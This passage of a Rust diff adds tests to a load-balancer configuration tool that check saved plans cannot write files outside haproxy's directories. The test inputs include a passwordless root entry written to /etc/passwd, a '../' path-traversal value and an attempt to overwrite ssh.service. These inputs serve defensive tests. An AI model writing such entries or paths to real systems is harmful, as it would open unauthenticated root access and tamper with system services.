+        assert!(pid.starts_with("lb1: hosts[0].verify.pid_files[0]: \"../run/x.pid\""));
+    }
+
+    #[test]
+    fn which_files_are_written_is_held_to_the_inventorys_rules() {
+        let passwd = |h: &mut PlannedHost| {
+            h.files[0] = file(Service::Haproxy, "/etc/passwd", "root::0:0::/:/bin/sh\n");
+            h.keep.haproxy_config = "/etc/passwd".into();
+            h.verify = Verify {
+                haproxy_master_socket: h.verify.haproxy_master_socket.clone(),
+                udp_ports: vec![53],
+                pid_files: h.verify.pid_files.clone(),
+                ..Verify::default()
+            };
+        };
+        let outside = refused("passwd", true, passwd);
+        assert!(
+            outside.starts_with(
+                "lb1: hosts[0].files[0].path: \"/etc/passwd\" is outside haproxy's usual directories"
+            ),
+            "{outside}"
+        );
+        // only the operator lets files out (`apply --no-confine-paths`), never the file
+        let mut p = plan();
+        p.hosts = vec![host("lb1")];
+        passwd(&mut p.hosts[0]);
+        assert_eq!(read_back(&p, "unconfined", false), None);
+        let dotdot = refused("dotdot", false, |h| {
+            h.files[1].path = "/etc/lbctl/../passwd".into();
+        });
+        assert!(dotdot.contains("is not normalised"), "{dotdot}");
+        // any unit but the watcher's, confined or not
+        for confine_paths in [true, false] {
+            let unit = refused("unit", confine_paths, |h| {
+                h.files[3].path = "/etc/systemd/system/ssh.service".into();
+            });
+            assert_eq!(
+                unit,
+                "lb1: hosts[0].files[3].path: \"/etc/systemd/system/ssh.service\" is not the UDP health watcher's unit, /etc/systemd/system/lbctl-udp-health.service, the one unit lbctl writes"
+            );
+        }
+        let second = refused("second", true, |h| {
+            h.files
+                .push(file(Service::Haproxy, "/etc/haproxy/b.cfg", "x"));
+        });
+        assert!(second.starts_with("lb1: hosts[0].files[4].service: a second haproxy file"));
+    }
+
     #[test]
     fn another_version_or_format_is_refused() {
-        let dir = std::env::temp_dir().join(format!("lbctl-saved-v-{}", std::process::id()));
-        std::fs::create_dir_all(&dir).unwrap();
+        let dir = scratch("version");
         let path = dir.join("p");
         std::fs::write(
             &path,
@@ -646,12 +1199,12 @@ mod tests {
         )
         .unwrap();
         assert!(matches!(
-            SavedPlan::read(&path),
+            SavedPlan::read(&path, true),
             Err(SavedPlanError::Version { found: 2, .. })
         ));
         std::fs::write(&path, r#"{"hosts": []}"#).unwrap();
         assert!(matches!(
-            SavedPlan::read(&path),
+            SavedPlan::read(&path, true),
             Err(SavedPlanError::Format { .. })
         ));
         let _ = std::fs::remove_dir_all(&dir);
